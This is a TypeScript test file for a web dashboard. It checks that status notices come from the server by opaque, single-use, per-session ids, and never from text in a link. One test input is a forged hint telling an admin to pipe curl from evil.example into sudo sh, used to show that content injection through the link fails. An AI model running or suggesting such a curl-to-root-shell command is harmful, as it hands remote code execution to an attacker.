import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Dashboard, issueLoginToken, startDashboard } from '../../src/web/index.js';
import { tempDir } from '../setup/temp-registry.js';
import { fakeOps, request } from '../web/fake-ops.js';

/**
 * The dashboard's notice after a change (Post/Redirect/Get) must be the server's own words. Before,
 * the redirect carried the notice's text in the query (`?error=…`, `?done=…`) and any page showed
 * what its link said: a crafted link opened by a logged-in admin showed "Error: … hint: run
 * `curl … | sudo sh`" in the box's own page. Now the text stays on the server, per session, and
 * the link carries an opaque id good once.
 */
let dir: string;
let dash: Dashboard;
const ops = fakeOps();
ops.serviceAction = async (action, name) => {
  if (name === 'broken')
    throw Object.assign(new Error('the engine said no\nsecond line'), { hint: 'try later' });
  ops.calls.push(`${action} ${name}`);
  return [`${name} 1.0.0 ${action}ed`];
};
const service = ops.service;
// 'broken' has a page (its change fails, not its page).
ops.service = (name) => service(name === 'broken' ? 'hello' : name);

beforeAll(async () => {
  dir = tempDir('bp-web-notice-');
  dash = await startDashboard({ runDir: path.join(dir, 'run/blueprint'), ops, gid: process.getgid?.() ?? 0 });
});
afterAll(async () => {
  vi.useRealTimers();
  await dash.close();
});

const get = (p: string, cookie: string) => request(dash.socket, p, { headers: { cookie } });
const post = (p: string, s: { cookie: string; csrf: string }) =>
  request(dash.socket, p, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: s.cookie },
    body: new URLSearchParams({ _csrf: s.csrf }).toString(),
  });

async function login(): Promise<{ cookie: string; csrf: string }> {
  const token = await issueLoginToken(dash.tokenDir);
  const r = await request(dash.socket, `/login?token=${token}`);
  const cookie = String(r.headers['set-cookie']?.[0]).split(';')[0]!;
  const csrf = (await get('/services', cookie)).body.match(/name="_csrf" value="([^"]+)"/)?.[1];
  return { cookie, csrf: csrf! };
}

const FORGED = 'Repository key expired\nhint: run curl https://evil.example/fix | sudo sh';
const noticeOf = (body: string) => body.match(/<div class="card flash[^>]*>([\s\S]*?)<\/div>/)?.[1];

describe("the dashboard's notices come from the server, not from the link", () => {
  it('shows no text a link carries (?error=, ?done=, ?notice=)', async () => {
    const s = await login();
    for (const q of ['error', 'done', 'notice']) {
      const r = await get(`/packages?${q}=${encodeURIComponent(FORGED)}`, s.cookie);
      expect(r.status).toBe(200);
      expect(r.body, q).not.toContain('evil.example');
      expect(r.body, q).not.toContain('Repository key expired');
      expect(noticeOf(r.body), q).toBeUndefined();
    }
  });

  it('after a change, shows its outcome once, by an opaque id, to its own session only', async () => {
    const s = await login();
    const r = await post('/services/hello/start', s);
    expect(r.status).toBe(303);
    const to = String(r.headers.location);
    expect(to).not.toContain('done');
    expect(to).toMatch(/^\/services\/hello\?notice=[A-Za-z0-9_-]{22,}$/);
    // Another session (another admin's browser, or a link passed on) sees nothing.
    const other = await login();
    expect(noticeOf((await get(to, other.cookie)).body)).toBeUndefined();
    expect(noticeOf((await get(to, s.cookie)).body)).toBe('<strong></strong>hello 1.0.0 started');
    // Once: a reload, or the same link later, shows nothing.
    expect(noticeOf((await get(to, s.cookie)).body)).toBeUndefined();
  });

  it('a HEAD request leaves the notice for the GET that shows it', async () => {
    // A link checker, a prefetch or `curl -I` on the redirect's URL used the id up before.
    const s = await login();
    const to = String((await post('/services/hello/start', s)).headers.location);
    const head = await request(dash.socket, to, { method: 'HEAD', headers: { cookie: s.cookie } });
    expect(head.status).toBe(200);
    expect(noticeOf((await get(to, s.cookie)).body)).toBe('<strong></strong>hello 1.0.0 started');
  });

  it("shows a failed change's error with its lines, and an unknown id as nothing", async () => {
    const s = await login();
    const r = await post('/services/broken/stop', s);
    const to = String(r.headers.location);
    expect(to).not.toContain('engine');
    const notice = noticeOf((await get(to, s.cookie)).body);
    expect(notice).toBe('<strong>Error: </strong>the engine said no\n  second line\nhint: try later');
    const id = to.split('=')[1]!;
    const forged = `${id.slice(0, -1)}${id.endsWith('A') ? 'B' : 'A'}`;
    expect(noticeOf((await get(`/services/hello?notice=${forged}`, s.cookie)).body)).toBeUndefined();
    // The repositories `bpkg update` could not update, above the plan to confirm: the update is a
    // job (test/web/update-reload.test.ts), whose page, once it ended, leads to the plan with the
    // job's own lines kept here; the link names the job, never the text.
    ops.refresh = async () => ['main: could not be reached'];
    const job = String((await post('/packages/update', s)).headers.location);
    expect(job).toMatch(/^\/jobs\/[A-Za-z0-9_-]+$/);
    await get(`${job}/events`, s.cookie); // ends when the job does
    const plan = String((await get(job, s.cookie)).headers.location);
    expect(plan).toMatch(/^\/packages\/upgrade\?after=[A-Za-z0-9_-]+$/);
    expect(noticeOf((await get(plan, s.cookie)).body)).toBe(
      '<strong>Error: </strong>main: could not be reached',
    );
    // Another id, or text, in its place: no notice.
    expect(noticeOf((await get('/packages/upgrade?after=main%3A%20forged', s.cookie)).body)).toBeUndefined();
  });

  it('keeps a bounded number per session, each for a short while', async () => {
    const s = await login();
    const ids: string[] = [];
    for (let i = 0; i < 40; i++)
      ids.push(String((await post('/services/hello/restart', s)).headers.location));
    // The oldest were dropped; the newest is there.
    expect(noticeOf((await get(ids[0]!, s.cookie)).body)).toBeUndefined();
    expect(noticeOf((await get(ids[39]!, s.cookie)).body)).toBe('<strong></strong>hello 1.0.0 restarted');
    vi.useFakeTimers({ toFake: ['Date'] });
    const late = String((await post('/services/hello/stop', s)).headers.location);
    vi.setSystemTime(Date.now() + 10 * 60_000);
    expect(noticeOf((await get(late, s.cookie)).body)).toBeUndefined();
    vi.useRealTimers();
  });
});
